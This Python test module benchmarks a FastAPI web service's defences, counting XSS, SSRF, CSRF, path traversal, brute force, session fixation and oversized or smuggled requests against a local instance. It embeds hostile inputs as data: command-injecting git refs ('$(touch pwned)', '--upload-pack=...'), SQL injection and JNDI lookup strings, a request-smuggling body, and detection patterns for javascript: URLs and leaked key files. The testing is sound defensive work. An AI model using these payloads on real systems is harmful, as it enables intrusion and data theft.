"""Web attacks, counted: texts that would be markup in every field of every page, targets, forms, paths, logins, bodies.

    python -m tests.bench web-attacks        all of them
    python -m tests.bench web-attacks --every 10    a tenth of the pages, for a look

What counts as through is decided by an HTML parser for all payloads, and by Chromium for some: a page whose
elements differ from those of the same page with harmless text, a script that ran, a connection that was made, a row
that changed, a file that came back, a service that no longer answers.
"""

import re
import secrets
import socket
import tempfile
import threading
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from uuid import UUID

from fastapi import FastAPI
from fastapi.routing import APIRoute
from fastapi.testclient import TestClient
from playwright.sync_api import Browser
from sqlalchemy import func, select

from orchestrator import wiring
from orchestrator.services import accounts
from orchestrator.services.workshop import Workshop
from orchestrator.settings import Settings
from orchestrator.store.base import Base
from orchestrator.store.migrate import upgrade
from orchestrator.web.app import make_app
from orchestrator.web.doorman import LOGIN_COOKIE
from orchestrator.web.security import CSRF_COOKIE, MAX_BODY_BYTES
from tests.bench.figures import record
from tests.orchestrator.web.html import Element, Page, read
from tests.orchestrator.web.streets import Street, build
from tests.support.chromium import chromium
from tests.support.site import served
from tests.support.web_attacks import INSIDE, PATHS, PAYLOADS, REDIRECTS

HERE = "http://127.0.0.1:8750"
TOGETHER = 10  # payloads that stand in one text
IN_THE_BROWSER = 4  # texts, so payloads times TOGETHER
# What our own rendering makes of a text: paragraphs, code, marks for terminal codes. Their number may differ.
OF_THE_TEXT = frozenset({"p", "code", "span", "br", "wbr", "b", "i", "summary", "details"})
ADDRESSES = frozenset(
    {"href", "src", "action", "formaction", "srcdoc", "data", "xlink:href", "hx-get", "hx-post", "poster"}
)
NEVER = frozenset({"iframe", "object", "embed", "base", "math", "frame", "applet", "plaintext", "marquee"})
PASSWORD = "correct horse battery staple"


@dataclass
class Tally:
    """What was tried of each kind, and what got through."""

    tried: Counter[str] = field(default_factory=Counter)
    through: list[str] = field(default_factory=list)

    def add(self, kind: str, what: str, got: str = "") -> None:
        self.tried[kind] += 1
        if got:
            self.through.append(f"{kind}: {what!r}: {got}"[:400])


def run(*, every: int = 1, browser: bool = True, keep: bool = True) -> dict[str, float]:
    """Writes docs/figures/web-attacks.json unless only some pages were looked at, or none in a browser."""
    tally = Tally()
    with tempfile.TemporaryDirectory(prefix="lamplighter-web-attacks-") as made:
        folder = Path(made)
        markup(tally, folder, every=every)
        if browser:
            scripts(tally, folder)
        inside(tally, folder)
        foreign_forms(tally, folder)
        traversal(tally, folder)
        logins(tally, folder)
        oversized(tally, folder)
    for one in tally.through:
        print(f"through: {one}")
    figures: dict[str, float] = {"payloads": tally.tried.total(), "through": len(tally.through)}
    figures |= {kind: number for kind, number in tally.tried.items()}
    if keep and every == 1 and browser:
        record("web-attacks", figures, libraries=("fastapi", "jinja2", "markupsafe"))
    return figures


@contextmanager
def service(folder: Path, **settings: Any) -> Iterator[tuple[Workshop, FastAPI, TestClient]]:
    """The real application over a database of its own."""
    data = folder / secrets.token_hex(6)
    chosen = Settings(data=data, **settings)
    upgrade(chosen.database)
    shop = wiring.service(chosen)
    app = make_app(shop, chosen)
    with TestClient(app, base_url=HERE, follow_redirects=False, client=("127.0.0.1", 40000)) as client:
        yield shop, app, client
    shop.sessions.close()


# Texts that would be markup ----------------------------------------------------------------


def markup(tally: Tally, folder: Path, *, every: int = 1) -> None:
    """All payloads in every field that a repo or a model fills, on every page; the parser compares elements."""
    with service(folder) as (_, _, client):
        expected = {place: skeleton(page) for place, page in pages(client, street(folder, client, "harmless words"))}
    for at in range(0, len(PAYLOADS), TOGETHER * every):
        payloads = PAYLOADS[at : at + TOGETHER]
        with service(folder) as (_, _, client):
            got = ""
            for place, page in pages(client, street(folder, client, " ".join(payloads))):
                got = got or became_markup(page) or differs(expected[place], skeleton(page))
        for payload in payloads:
            tally.add("xss", payload, got)


def street(folder: Path, client: TestClient, text: str) -> list[tuple[str, str]]:
    """Addresses of a world in which every text is this one, by their place in the list."""
    shop = client.app.state.shop  # type: ignore[attr-defined]
    with shop.sessions.begin() as db:
        built: Street = build(db, text)
    return [
        (f"{number} {re.sub('[0-9a-f-]{36}', 'ID', address.partition('?')[0])}", address)
        for number, address in enumerate(built.pages)
    ]


def pages(client: TestClient, addresses: Sequence[tuple[str, str]]) -> Iterator[tuple[str, Page]]:
    for place, address in addresses:
        answer = client.get(address)
        assert answer.status_code == 200, f"{address}: {answer.status_code}"
        yield place, read(answer.text)


Skeleton = Counter[tuple[str, tuple[str, ...]]]


def skeleton(page: Page) -> Skeleton:
    """Elements that do not come of a text, with their attributes' names. Unordered: rows may be sorted by text."""
    return Counter((one.tag, tuple(sorted(one.attributes))) for one in page.elements if one.tag not in OF_THE_TEXT)


def differs(expected: Skeleton, found: Skeleton) -> str:
    if expected == found:
        return ""
    return f"more elements: {dict(found - expected)}, fewer: {dict(expected - found)}"


def became_markup(page: Page) -> str:
    """What must never be on a page, whatever it says."""
    for one in page.elements:
        if problem := forbidden(one):
            return problem
    return ""


def forbidden(one: Element) -> str:
    if one.tag in NEVER or (one.tag == "script" and not one.attributes.get("src", "").startswith("/static/")):
        return f"<{one.tag}>"
    if one.tag == "meta" and "=" in one.attributes.get("content", "") and "http-equiv" in one.attributes:
        return f"<meta http-equiv> {one.attributes['content'][:40]}"  # ours reloads the same page
    for name, value in one.attributes.items():
        if name.startswith("on") or name in ("style", "srcdoc") or name.startswith("hx-on"):
            return f"{name} on <{one.tag}>"
        if name in ADDRESSES and re.match(r"[\s\x00-\x20]*(?:javascript|data|vbscript):", value, re.IGNORECASE):
            return f"{name}={value[:40]} on <{one.tag}>"
        if name in ADDRESSES and "evil.example" in value.partition("?")[0]:
            return f"{name}={value[:40]} on <{one.tag}>"
    return ""


def scripts(tally: Tally, folder: Path) -> None:
    """Some of the texts in a real browser, without the content policy, so that only escaping keeps them quiet."""
    with chromium() as browser:
        for number in range(IN_THE_BROWSER):
            at = number * len(PAYLOADS) // IN_THE_BROWSER
            looked_at(tally, folder, browser, " ".join(PAYLOADS[at : at + 3 * TOGETHER]))


def looked_at(tally: Tally, folder: Path, browser: Browser, text: str) -> None:
    with service(folder) as (shop, _, _), served(shop) as site:
        with shop.sessions.begin() as db:
            built = build(db, text)
        addresses = [f"/reviews/{built.done}", f"/findings/{built.findings[0]}", f"/steps/{built.steps[2]}"]
        addresses += [f"/repos/{built.repo}", f"/reviews/{built.running}"]
        context = browser.new_context(bypass_csp=True)
        asked_for: list[str] = []
        context.add_init_script("window.ran = 0; window.pwned = () => { window.ran += 1 }")
        context.on("request", lambda one: asked_for.append(one.url))
        page = context.new_page()
        for address in addresses:
            page.goto(site.address + address, wait_until="domcontentloaded")
            page.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true })")
            page.mouse.move(300, 300)
            page.wait_for_timeout(60)  # for what a moved mouse or an opened fold starts
            ran = page.evaluate("window.ran")
            elsewhere = [url for url in asked_for if not url.startswith(site.address)]
            tally.add("xss_in_chromium", address, f"{ran} scripts ran" if ran else "; ".join(elsewhere))
        context.close()


# Targets that lead inside ------------------------------------------------------------------


def inside(tally: Tally, folder: Path) -> None:
    """Asked for by API and form; nothing inside may be connected to, nothing run, nothing queued."""
    with counting_server() as (port, hits), service(folder, git_schemes=("https", "ssh"), git_timeout_s=5) as opened:
        shop, _, client = opened
        for target in (one.format(port=port) for one in INSIDE):
            before = len(hits)
            by_api = client.post("/api/reviews", json={"target": target})
            by_form = form(client, "/reviews", target=target)
            got = ""
            if len(hits) > before:
                got = "a connection was made"
            elif by_api.status_code < 400 or (by_form.status_code < 400 and "/reviews/" in str(by_form.headers)):
                got = f"it was accepted ({by_api.status_code}, {by_form.status_code})"
            elif by_api.status_code >= 500 or by_form.status_code >= 500:
                got = f"the service broke ({by_api.status_code}, {by_form.status_code})"
            tally.add("ssrf", target, got)
        if (Path.cwd() / "pwned").exists() or (shop.settings.data / "pwned").exists():
            tally.add("ssrf", "a command in a target", "it was run")
        for ref in (
            "--upload-pack=touch pwned",
            "-c core.sshCommand=x",
            "$(touch pwned)",
            "a..b",
            "x\ny",
            "@{-1}",
            "refs/../x",
        ):
            answer = client.post("/api/reviews", json={"target": "https://example.invalid/x", "ref": ref})
            tally.add("ssrf", ref, "" if answer.status_code == 422 else f"{answer.status_code}")


@contextmanager
def counting_server() -> Iterator[tuple[int, list[str]]]:
    """A server inside that is never to be reached."""
    hits: list[str] = []
    with socket.create_server(("::", 0), family=socket.AF_INET6, dualstack_ipv6=True) as server:

        def serve() -> None:
            while True:
                try:
                    client, address = server.accept()
                except OSError:
                    return
                hits.append(str(address))
                client.close()

        threading.Thread(target=serve, daemon=True).start()
        yield server.getsockname()[1], hits


def form(client: TestClient, address: str, **fields: str) -> Any:
    """As our own pages send it."""
    token = csrf_of(client)
    return client.post(address, data={"csrf": token, **fields}, headers={"Origin": HERE})


def csrf_of(client: TestClient, page: str = "/") -> str:
    found = re.search(r'name="csrf" value="([^"]+)"', client.get(page).text)
    assert found, f"{page} has no form"
    return found[1]


# Forms of other sites ----------------------------------------------------------------------


def foreign_forms(tally: Tally, folder: Path) -> None:
    """Every address that changes something, asked as a page of another site can ask: nothing may change."""
    with service(folder) as (shop, app, client):
        with shop.sessions.begin() as db:
            built = build(db)
        token = csrf_of(client)
        for route in changing(app):
            path = filled(route.path, built)
            for name, headers, data in foreign_ways(token):
                if route.path.startswith("/api/") and not counts_for_the_api(name, method_of(route)):
                    continue
                before = rows(shop)
                answer = client.request(method_of(route), path, headers=headers, content=data)
                got = "" if answer.status_code >= 400 else f"answered {answer.status_code}"
                tally.add("csrf", f"{name} {route.path}", got or changed(before, rows(shop)))


def counts_for_the_api(way: str, method: str) -> bool:
    """It has no forms with tokens; and no page can send DELETE to another site without being asked for its origin."""
    return not way.startswith("our own page") and not (method == "DELETE" and way == "JSON as plain text")


def changing(app: FastAPI) -> list[APIRoute]:
    """Routes of all rooms, however they are nested."""
    found: list[APIRoute] = []
    waiting: list[Any] = list(app.routes)
    while waiting:
        route = waiting.pop()
        waiting += list(getattr(route, "routes", ()) or ())
        inner = getattr(route, "original_router", None) or getattr(route, "router", None)
        waiting += list(getattr(inner, "routes", ()) or ())
        if isinstance(route, APIRoute) and route.methods - {"GET", "HEAD", "OPTIONS"}:
            found.append(route)
    assert len(found) > 15, "the routes were not found"
    return sorted(found, key=lambda route: route.path)


def method_of(route: APIRoute) -> str:
    return min(route.methods - {"GET", "HEAD", "OPTIONS"})


def filled(path: str, built: Street) -> str:
    known = {
        "review_id": built.running,
        "finding_id": built.findings[0],
        "schedule_id": built.schedules[0],
        "repo_id": built.repo,
    }
    return re.sub(r"\{(\w+)(?::\w+)?\}", lambda found: str(known.get(found[1], UUID(int=1))), path)


def foreign_ways(token: str) -> Iterator[tuple[str, dict[str, str], str]]:
    """Headers that a browser would send from elsewhere, with what a foreign page can and cannot know."""
    of_form = {"Content-Type": "application/x-www-form-urlencoded"}
    of_json = {"Content-Type": "application/json"}
    evil = {"Origin": "http://evil.example"}
    yield "foreign form", {**of_form, **evil}, "reason=x&target=x&name=x"
    yield "foreign form with our token", {**of_form, **evil}, f"csrf={token}&reason=x"
    yield "sandboxed frame", {**of_form, "Origin": "null"}, f"csrf={token}"
    yield "cross-site without origin", {**of_form, "Sec-Fetch-Site": "cross-site"}, f"csrf={token}"
    yield "same site, other host", {**of_form, "Sec-Fetch-Site": "same-site"}, f"csrf={token}"
    yield "another port of ours", {**of_form, "Origin": "http://127.0.0.1:1234"}, f"csrf={token}"
    yield "our own page without a token", {**of_form, "Origin": HERE}, "reason=x"
    yield "our own page, another's token", {**of_form, "Origin": HERE}, f"csrf={secrets.token_urlsafe(32)}&reason=x"
    yield "JSON from elsewhere", {**of_json, **evil}, "{}"
    yield "JSON as plain text", {"Content-Type": "text/plain"}, "{}"
    yield "another host's name", {**of_json, "Host": "evil.example:8750"}, "{}"
    yield "a method in a header", {**of_form, **evil, "X-HTTP-Method-Override": "DELETE"}, "_method=DELETE"


def rows(shop: Workshop) -> dict[str, tuple[Any, ...]]:
    """How many rows there are, and what of them a foreign page would want to change."""
    found: dict[str, tuple[Any, ...]] = {}
    with shop.sessions.reading() as db:
        for table in Base.metadata.sorted_tables:
            found[table.name] = (db.scalar(select(func.count()).select_from(table)),)
        for name, columns in (
            ("reviews", ("state", "cancel_requested")), ("findings", ("ignored_reason",)), ("schedules", ("enabled",)),
        ):  # fmt: skip
            table = Base.metadata.tables[name]
            chosen = select(*(table.c[column] for column in columns)).order_by(table.c.id)
            found[f"{name} themselves"] = tuple(map(tuple, db.execute(chosen)))
    return found


def changed(before: dict[str, Any], after: dict[str, Any]) -> str:
    return "; ".join(f"{name} changed" for name in before if before[name] != after[name])


# Paths -------------------------------------------------------------------------------------


def traversal(tally: Tally, folder: Path) -> None:
    """Over a real socket, because clients tidy paths up."""
    with service(folder) as (shop, _, _), served(shop) as site:
        (shop.settings.data / "secret.txt").write_text("the-secret")
        for path in PATHS:
            head, body = asked(site.port, f"GET {path} HTTP/1.1")
            leaked = any(mark in body for mark in (b"root:x:", b"the-secret", b"import ", b"PRIVATE KEY"))
            broke = b" 500 " in head.split(b"\r\n")[0]
            away = b"location: //" in head.lower() or b"location: http" in head.lower()
            got = "a file came back" if leaked else "it broke" if broke else "it sends people away" if away else ""
            tally.add("traversal", path, got)


def asked(port: int, line: str, *headers: str, body: bytes = b"", host: str = "127.0.0.1") -> tuple[bytes, bytes]:
    """Head and body of the answer to a request sent byte by byte."""
    with socket.create_connection(("127.0.0.1", port), timeout=10) as client:
        head = "\r\n".join([line, f"Host: {host}:{port}", "Connection: close", *headers])
        client.sendall(head.encode("latin-1", "replace") + b"\r\n\r\n" + body)
        said = b""
        try:
            while data := client.recv(65536):
                said += data
        except OSError:
            pass
    head_said, _, rest = said.partition(b"\r\n\r\n")
    return head_said, rest


# Logins ------------------------------------------------------------------------------------


def logins(tally: Tally, folder: Path) -> None:
    with service(folder) as (shop, _, client):
        accounts.create(shop, "ada", PASSWORD, admin=True)
        brute_force(tally, client)
    with service(folder) as (shop, _, client):
        accounts.create(shop, "ada", PASSWORD, admin=True)
        fixation(tally, client)
    with service(folder) as (shop, _, client):
        accounts.create(shop, "ada", PASSWORD, admin=True)
        without_login(tally, client)


def brute_force(tally: Tally, client: TestClient) -> None:
    """Guesses one after another: after some of them the right one is refused as well, and no guess ever succeeds."""
    refused = 0
    for number in range(30):
        answer = log_in(client, "ada", f"guess {number}")
        refused += answer.status_code == 429
        tally.add("brute_force", f"guess {number}", "" if LOGIN_COOKIE not in answer.cookies else "it was let in")
    tally.add("brute_force", "thirty guesses", "" if refused >= 15 else f"only {refused} of 30 were put off")
    late = log_in(client, "ada", PASSWORD)
    tally.add("brute_force", "the right one among many wrong ones", "" if late.status_code == 429 else "not put off")
    for name in (
        "nobody",
        "ADA'--",
        "ada\x00",
        "a" * 10_000,
        "",
        "' OR 1=1 --",
        "ada' /*",
        "${jndi:ldap://evil.example}",
    ):
        answer = log_in(client, name, "x")
        wrong = answer.status_code >= 500 or LOGIN_COOKIE in answer.cookies
        tally.add("brute_force", name, f"answered {answer.status_code}" if wrong else "")


def log_in(client: TestClient, name: str, password: str, **more: str) -> Any:
    token = csrf_of(client, "/login")
    data = {"csrf": token, "name": name, "password": password, **more}
    return client.post("/login", data=data, headers={"Origin": HERE})


def fixation(tally: Tally, client: TestClient) -> None:
    """A session or a token that somebody planted before the login is worth nothing after it."""
    planted = secrets.token_urlsafe(32)
    client.cookies.set(LOGIN_COOKIE, planted, domain="127.0.0.1")
    client.cookies.set(CSRF_COOKIE, secrets.token_urlsafe(32), domain="127.0.0.1")
    known_token = csrf_of(client, "/login")
    answer = log_in(client, "ada", PASSWORD)
    given = answer.cookies.get(LOGIN_COOKIE, "")
    tally.add("fixation", "a planted session", "" if given and given != planted else "it was kept")
    flags = answer.headers.get("set-cookie", "").lower()
    tally.add("fixation", "flags of the cookie", "" if "httponly" in flags and "samesite" in flags else flags)
    other = TestClient(client.app, base_url=HERE, follow_redirects=False)
    other.cookies.set(LOGIN_COOKIE, planted, domain="127.0.0.1")
    tally.add(
        "fixation", "the planted one used", "" if other.get("/reviews").status_code in (303, 401, 403) else "it is in"
    )
    again = client.post("/account/tokens", data={"csrf": known_token, "token_name": "x"}, headers={"Origin": HERE})
    tally.add("fixation", "a token of a form from before", "" if again.status_code == 403 else f"{again.status_code}")
    for target in REDIRECTS:
        sent = log_in(TestClient(client.app, base_url=HERE, follow_redirects=False), "ada", PASSWORD, next=target)
        place = sent.headers.get("location", "")
        safe = place.startswith("/") and not place.startswith(("//", "/\\")) and not re.search(r"[\x00-\x1f\\]", place)
        tally.add("fixation", target, "" if safe or sent.status_code >= 400 else f"it leads to {place!r}")
    client.post("/logout", data={"csrf": csrf_of(client, "/account")}, headers={"Origin": HERE})
    other.cookies.set(LOGIN_COOKIE, given, domain="127.0.0.1")
    tally.add("fixation", "a session after its logout", "" if other.get("/reviews").status_code != 200 else "it is in")


def without_login(tally: Tally, client: TestClient) -> None:
    """Where there are accounts, no page and no address of the API answers a stranger."""
    app = client.app
    strangers: tuple[dict[str, str], ...] = (
        {},
        {"Authorization": "Bearer x"},
        {"Authorization": "Basic YWRhOng="},
        {"X-Forwarded-User": "ada"},
        {"X-Original-URL": "/login"},
        {"X-Forwarded-For": "127.0.0.1"},
    )
    paths = ("/", "/reviews", "/repos", "/schedules", "/compare", "/node", "/account", "/api/reviews", "/api/repos")
    for path in (*paths, "/ignored", "/now", "//reviews", "/login/../reviews", "/static/../reviews"):
        for headers in strangers:
            answer = TestClient(app, base_url=HERE, follow_redirects=False).get(path, headers=headers)
            tally.add("without_login", f"{path} {headers}", "it answered" if answer.status_code == 200 else "")


# Bodies ------------------------------------------------------------------------------------


def oversized(tally: Tally, folder: Path) -> None:
    """Refused in time and unread; afterwards the service answers as before."""
    with service(folder) as (shop, _, _), served(shop) as site:
        of_json = "Content-Type: application/json"
        deep = ("[" * 30_000 + "]" * 30_000).encode()
        wide = ("{" + ",".join(f'"k{n}":1' for n in range(5000)) + "}").encode()[:MAX_BODY_BYTES]
        fields = ("&".join(f"f{n}=x" for n in range(9000))).encode()[:MAX_BODY_BYTES]
        requests: list[tuple[str, str, list[str], bytes]] = [
            (
                "one byte too many",
                "POST /api/reviews HTTP/1.1",
                [of_json, f"Content-Length: {MAX_BODY_BYTES + 1}"],
                b"",
            ),
            ("a terabyte", "POST /api/reviews HTTP/1.1", [of_json, "Content-Length: 1099511627776"], b"x" * 1000),
            ("a negative length", "POST /api/reviews HTTP/1.1", [of_json, "Content-Length: -1"], b"x"),
            (
                "two lengths",
                "POST /api/reviews HTTP/1.1",
                [of_json, "Content-Length: 2", "Content-Length: 9999999"],
                b"{}",
            ),
            (
                "pieces without end",
                "POST /api/reviews HTTP/1.1",
                [of_json, "Transfer-Encoding: chunked"],
                b"5\r\nhello\r\n" * 9,
            ),
            (
                "both kinds of length",
                "POST /api/reviews HTTP/1.1",
                [of_json, "Content-Length: 2", "Transfer-Encoding: chunked"],
                b"0\r\n\r\nGET /smuggled HTTP/1.1\r\n\r\n",
            ),
            ("brackets without end", "POST /api/reviews HTTP/1.1", [of_json, f"Content-Length: {len(deep)}"], deep),
            ("names without end", "POST /api/reviews HTTP/1.1", [of_json, f"Content-Length: {len(wide)}"], wide),
            (
                "a compressed bomb",
                "POST /api/reviews HTTP/1.1",
                [of_json, "Content-Encoding: gzip", "Content-Length: 20"],
                b"\x1f\x8b" + b"\0" * 18,
            ),
            (
                "form fields without end",
                "POST /reviews HTTP/1.1",
                [
                    "Content-Type: application/x-www-form-urlencoded",
                    f"Origin: {site.address}",
                    f"Content-Length: {len(fields)}",
                ],
                fields,
            ),
            (
                "a file in a form",
                "POST /reviews HTTP/1.1",
                ["Content-Type: multipart/form-data; boundary=b", f"Origin: {site.address}", "Content-Length: 90"],
                b'--b\r\nContent-Disposition: form-data; name="f"; filename="x"\r\n\r\n' + b"x" * 20 + b"\r\n--b--\r\n",
            ),
            ("an address without end", f"GET /reviews?{'x' * 100_000} HTTP/1.1", [], b""),
            ("headers without end", "GET / HTTP/1.1", [f"X-{n}: {'y' * 1000}" for n in range(200)], b""),
            ("cookies without end", "GET / HTTP/1.1", ["Cookie: " + "; ".join(f"c{n}=1" for n in range(4000))], b""),
            ("a page number without end", f"GET /reviews?page={'9' * 400} HTTP/1.1", [], b""),
            ("no HTTP at all", "\x16\x03\x01\x02 hello", [], b""),
            ("a method of one's own", "BREAK / HTTP/1.1", [], b""),
        ]
        for name, line, headers, body in requests:
            started = datetime.now(UTC)
            head, _ = asked(site.port, line, *headers, body=body)
            took = (datetime.now(UTC) - started).total_seconds()
            status = int(match[1]) if (match := re.match(rb"HTTP/1.1 (\d+)", head)) else 400
            alive = asked(site.port, "GET /health/ready HTTP/1.1")[0].startswith(b"HTTP/1.1 200")
            taken = b" 20" in head[:12] and line.startswith("POST")
            got = (
                "the service is gone"
                if not alive
                else "taken"
                if taken
                else f"broke ({status})"
                if status >= 500
                else ""
            )
            tally.add("oversized", name, got or (f"it took {took:.0f} s" if took > 8 else ""))


Part = Callable[[Tally, Path], None]
PARTS: dict[str, Part] = {
    "inside": inside, "foreign forms": foreign_forms, "traversal": traversal, "logins": logins, "oversized": oversized,
}  # fmt: skip
